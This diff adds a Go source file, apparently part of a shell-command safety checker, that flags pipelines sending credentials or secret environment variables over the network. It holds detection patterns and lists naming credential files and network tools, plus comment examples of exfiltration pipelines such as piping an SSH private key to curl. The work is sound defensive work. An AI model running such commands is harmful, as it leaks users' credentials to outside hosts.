@@ -0,0 +1,345 @@
+package main
+
+import (
+	"path/filepath"
+	"regexp"
+	"strings"
+)
+
+// Secret and exfiltration checks. They look at whole pipelines: a credential
+// read by one command and sent by another (cat ~/.ssh/id_rsa | curl -d @-
+// URL, curl -d "$(cat .env)" URL) is as bad as one command doing both.
+var (
+	secretsToNetworkWarning = compiledPattern{message: "Sends credentials or secrets over the network", severity: "high",
+		source: builtinRules, structural: "a credential file or secret variable used with curl, wget, nc, scp, ..."}
+	uploadWarning = compiledPattern{message: "Uploads local files to a remote host", severity: "medium",
+		source: builtinRules, structural: "curl -T/-d @file/-F, wget --post-file, scp, rsync, nc < file, aws s3 cp, ..."}
+	printSecretWarning = compiledPattern{message: "Prints a secret from the environment", severity: "medium",
+		source: builtinRules, structural: "echo or printf of a variable like $AWS_SECRET_ACCESS_KEY"}
+	foreignHostWarning = compiledPattern{message: "Sends a token to a host it may not belong to", severity: "medium",
+		source: builtinRules, structural: "an Authorization header with $GITHUB_TOKEN sent to a host other than github"}
+)
+
+// credentialPaths match the files that hold credentials, and the
+// directories of them (tar cz ~/.ssh). Public keys (id_rsa.pub) are fine.
+var credentialPaths = []*regexp.Regexp{
+	regexp.MustCompile(`(^|/)\.(ssh|aws|kube|gnupg)(/\*?)?$`),
+	regexp.MustCompile(`\.ssh/id_[A-Za-z0-9_]+$`),
+	regexp.MustCompile(`\.ssh/[^/]+\.pem$`),
+	regexp.MustCompile(`\.aws/credentials$`),
+	regexp.MustCompile(`\.config/gcloud(/|$)`),
+	regexp.MustCompile(`\.azure(/|$)`),
+	regexp.MustCompile(`\.kube/config$`),
+	regexp.MustCompile(`\.docker/config\.json$`),
+	regexp.MustCompile(`\.gnupg(/|$)`),
+	regexp.MustCompile(`(^|[/@=])\.(netrc|git-credentials|npmrc|pypirc|pgpass)$`),
+	regexp.MustCompile(`(^|[/@=])\.env(\.[A-Za-z]+)?$`), // but see envTemplateRe
+	regexp.MustCompile(`^/etc/(shadow|gshadow|sudoers)$`),
+	regexp.MustCompile(`\.(pem|key|p12|pfx|jks|keystore)$`),
+}
+
+var (
+	secretVarRe     = regexp.MustCompile(`\$\{?([A-Za-z_][A-Za-z0-9_]*)`)
+	secretVarNameRe = regexp.MustCompile(`(?i)(SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|ACCESS_KEY|PRIVATE_KEY|CREDENTIAL)`)
+)
+
+// networkTools send data to other hosts.
+var networkTools = map[string]bool{
+	"curl": true, "wget": true, "nc": true, "ncat": true, "netcat": true, "socat": true, "telnet": true,
+	"scp": true, "sftp": true, "rsync": true, "ftp": true, "ssh": true, "http": true, "https": true,
+}
+
+// localOptions are the options of network tools whose value isn't sent as
+// data: credentials the tool authenticates with (ssh -i KEY, curl -u
+// "admin:$PASSWORD") and files it writes (curl -o FILE).
+var localOptions = map[string]map[string]bool{
+	"ssh":   {"-i": true, "-o": true, "-F": true},
+	"scp":   {"-i": true, "-o": true, "-F": true},
+	"sftp":  {"-i": true, "-o": true, "-F": true},
+	"rsync": {"-e": true, "--rsh": true},
+	"curl": {"-E": true, "--cert": true, "--key": true, "--cacert": true,
+		"-u": true, "--user": true, "--oauth2-bearer": true, "--proxy-user": true,
+		"-o": true, "--output": true, "-c": true, "--cookie-jar": true, "-D": true, "--dump-header": true},
+	"wget": {"--certificate": true, "--private-key": true, "--ca-certificate": true,
+		"--user": true, "--password": true, "--http-user": true, "--http-password": true,
+		"-O": true, "--output-document": true, "-o": true, "--output-file": true, "-P": true},
+	"http":  {"-a": true, "--auth": true, "-o": true, "--output": true},
+	"https": {"-a": true, "--auth": true, "-o": true, "--output": true},
+}
+
+// headerOptions are the options that add a request header. Headers are sent
+// to the server, so only those that authenticate the request may carry a
+// secret (curl -H "Authorization: Bearer $TOKEN").
+var headerOptions = map[string]map[string]bool{
+	"curl": {"-H": true, "--header": true, "--proxy-header": true},
+	"wget": {"--header": true},
+}
+
+var authHeaderRe = regexp.MustCompile(`(?i)^\s*(proxy-)?authorization\s*:`)
+
+// tokenServiceAliases map the short service names used in variable names to
+// the name found in the service's host names.
+var tokenServiceAliases = map[string]string{"gh": "github", "glab": "gitlab", "hf": "huggingface", "cf": "cloudflare"}
+
+// tokenServiceWords are the parts of a variable name that say what it holds
+// rather than which service it belongs to.
+var tokenServiceWords = map[string]bool{"token": true, "api": true, "key": true, "apikey": true, "secret": true,
+	"access": true, "auth": true, "password": true, "passwd": true, "pat": true, "bearer": true, "private": true,
+	"credential": true, "credentials": true}
+
+// tokenBelongsTo reports whether the service a secret variable is named after
+// (GITHUB_TOKEN, OPENAI_API_KEY) appears in host. A variable that doesn't
+// name a service, like $TOKEN, belongs to no host in particular.
+func tokenBelongsTo(name, host string) bool {
+	var service []string
+	for _, part := range strings.Split(strings.ToLower(name), "_") {
+		if part != "" && !tokenServiceWords[part] {
+			if alias, ok := tokenServiceAliases[part]; ok {
+				part = alias
+			}
+			service = append(service, part)
+		}
+	}
+	if len(service) == 0 {
+		return false
+	}
+	host = strings.ToLower(host)
+	return strings.Contains(host, strings.Join(service, "")) || strings.Contains(host, service[0])
+}
+
+// urlHost returns the host a network tool's operand names, or "" if it isn't
+// a URL.
+func urlHost(value string) string {
+	if _, rest, found := strings.Cut(value, "://"); found {
+		value = rest
+	} else if strings.HasPrefix(value, "-") || !strings.Contains(value, ".") {
+		return ""
+	}
+	host, _, _ := strings.Cut(value, "/")
+	if _, h, found := strings.Cut(host, "@"); found {
+		host = h
+	}
+	host, _, _ = strings.Cut(host, ":")
+	return host
+}
+
+// secretUse is what the exfiltration checks found in one pipeline.
+type secretUse struct {
+	readsSecret   bool // reads a credential file or expands a secret variable
+	network       bool // runs a network tool or uploads
+	uploads       bool
+	printsSecret  bool
+	passwordStdin bool     // a command reads a password from stdin (docker login --password-stdin)
+	authVars      []string // secret variables sent in Authorization headers
+	hosts         []string // hosts the network tools talk to
+}
+
+// envTemplateRe matches the checked-in templates of .env files, which hold
+// placeholders rather than credentials.
+var envTemplateRe = regexp.MustCompile(`(^|/)\.env\.(example|sample|template|dist|defaults)$`)
+
+// isCredentialPath reports whether a word names a local credential file.
+func isCredentialPath(value string) bool {
+	if strings.Contains(value, "://") {
+		return false // a URL, like https://host/server.key
+	}
+	value = strings.TrimPrefix(value, "@")
+	if i := strings.Index(value, "=@"); i >= 0 {
+		value = value[i+2:] // curl -F file=@path
+	}
+	if envTemplateRe.MatchString(value) {
+		return false
+	}
+	for _, re := range credentialPaths {
+		if re.MatchString(value) {
+			return true
+		}
+	}
+	return false
+}
+
+// hasSecretVar reports whether a word expands a variable that looks like a
+// secret, such as $AWS_SECRET_ACCESS_KEY or ${GITHUB_TOKEN}.
+func hasSecretVar(value string) bool {
+	return len(secretVars(value)) > 0
+}
+
+// secretVars returns the names of the secret variables a word expands.
+func secretVars(value string) []string {
+	var names []string
+	for _, m := range secretVarRe.FindAllStringSubmatch(value, -1) {
+		if secretVarNameRe.MatchString(m[1]) {
+			names = append(names, m[1])
+		}
+	}
+	return names
+}
+
+// add records what the command words, with its redirects, does with secrets
+// and the network.
+func (s *secretUse) add(words []shellWord, redirects []shellRedirect) {
+	if len(words) == 0 {
+		return
+	}
+	name := filepath.Base(words[0].Value)
+	if networkTools[name] {
+		s.network = true
+	}
+	if isUpload(name, words, redirects) {
+		s.uploads, s.network = true, true
+	}
+
+	switch name {
+	case "env", "printenv", "export", "set":
+		if len(words) == 1 {
+			s.readsSecret = true // dumps the whole environment
+		}
+	}
+	for i := 1; i < len(words); i++ {
+		v := words[i].Value
+		if opt, header, found := strings.Cut(v, "="); headerOptions[name][opt] {
+			if !found && i+1 < len(words) {
+				i++
+				header = words[i].Value
+			}
+			if !authHeaderRe.MatchString(header) {
+				s.readsSecret = s.readsSecret || hasSecretVar(header)
+			} else {
+				s.authVars = append(s.authVars, secretVars(header)...)
+			}
+			continue
+		}
+		if v == "--password-stdin" {
+			s.passwordStdin = true
+		}
+		if opt, _, found := strings.Cut(v, "="); localOptions[name][opt] {
+			if !found {
+				i++ // the value is the next word
+			}
+			continue
+		}
+		if isCredentialPath(expandHome(v)) {
+			s.readsSecret = true
+		}
+		if networkTools[name] {
+			if host := urlHost(v); host != "" {
+				s.hosts = append(s.hosts, host)
+			}
+		}
+		if hasSecretVar(v) || name == "printenv" && secretVarNameRe.MatchString(v) {
+			s.readsSecret = true
+			if name == "echo" || name == "printf" || name == "printenv" {
+				s.printsSecret = true
+			}
+		}
+	}
+	for _, r := range redirects {
+		if strings.HasPrefix(r.Op, "<") && r.Heredoc == "" && isCredentialPath(r.Target.Value) {
+			s.readsSecret = true
+		}
+	}
+}
+
+// isUpload reports whether the command sends local files to a remote host.
+func isUpload(name string, words []shellWord, redirects []shellRedirect) bool {
+	var args []string
+	for _, w := range words[1:] {
+		args = append(args, w.Value)
+	}
+	switch name {
+	case "curl", "http", "https":
+		for i, a := range args {
+			switch {
+			case a == "-T" || a == "--upload-file" || strings.HasPrefix(a, "--upload-file="):
+				return true
+			case (a == "-d" || a == "-F" || strings.HasPrefix(a, "--data") || a == "--form" || a == "--json") && i+1 < len(args):
+				if v := args[i+1]; strings.HasPrefix(v, "@") || strings.Contains(v, "=@") || strings.Contains(v, "=<") {
+					return true
+				}
+			case strings.HasPrefix(a, "--data") && strings.Contains(a, "=@"):
+				return true
+			}
+		}
+	case "wget":
+		for _, a := range args {
+			if strings.HasPrefix(a, "--post-file") || strings.HasPrefix(a, "--body-file") {
+				return true
+			}
+		}
+	case "scp", "rsync":
+		_, operands := splitOperands(words[1:])
+		if len(operands) >= 2 {
+			dest := operands[len(operands)-1].Value
+			return isRemotePath(dest) && !isRemotePath(operands[0].Value)
+		}
+	case "nc", "ncat", "netcat", "socat", "telnet":
+		for _, r := range redirects {
+			if r.Op == "<" {
+				return true
+			}
+		}
+	case "aws", "gsutil", "rclone":
+		if len(args) >= 3 && (args[0] == "s3" && (args[1] == "cp" || args[1] == "mv" || args[1] == "sync") ||
+			args[0] == "cp" || args[0] == "rsync" || args[0] == "copy" || args[0] == "sync") {
+			_, operands := splitOperands(words[1:])
+			if len(operands) < 2 {
+				return false
+			}
+			dest := operands[len(operands)-1].Value
+			src := operands[len(operands)-2].Value
+			return isRemotePath(dest) && !isRemotePath(src)
+		}
+	}
+	return false
+}
+
+// isRemotePath reports whether a path names another host or a bucket:
+// host:path, user@host:path, s3://bucket or gs://bucket.
+func isRemotePath(p string) bool {
+	if strings.Contains(p, "://") {
+		return true
+	}
+	i := strings.Index(p, ":")
+	return i > 0 && !strings.Contains(p[:i], "/")
+}
+
+// warnings returns the exfiltration warnings for what was found.
+func (s *secretUse) warnings() []compiledPattern {
+	switch {
+	case s.readsSecret && s.network:
+		return []compiledPattern{secretsToNetworkWarning}
+	case s.sendsForeignToken():
+		return []compiledPattern{foreignHostWarning}
+	case s.uploads:
+		return []compiledPattern{uploadWarning}
+	case s.printsSecret && !s.passwordStdin:
+		return []compiledPattern{printSecretWarning}
+	}
+	return nil
+}
+
+// sendsForeignToken reports whether a token in an Authorization header goes
+// to a host it isn't named after.
+func (s *secretUse) sendsForeignToken() bool {
+	for _, name := range s.authVars {
+		if len(s.hosts) == 0 {
+			return true
+		}
+		for _, host := range s.hosts {
+			if !tokenBelongsTo(name, host) {
+				return true
+			}
+		}
+	}
+	return false
+}
+
+// containsWarning reports whether warnings already has w.
+func containsWarning(warnings []compiledPattern, w compiledPattern) bool {
+	for _, have := range warnings {
+		if have.message == w.message {
+			return true
+		}
+	}
+	return false
+}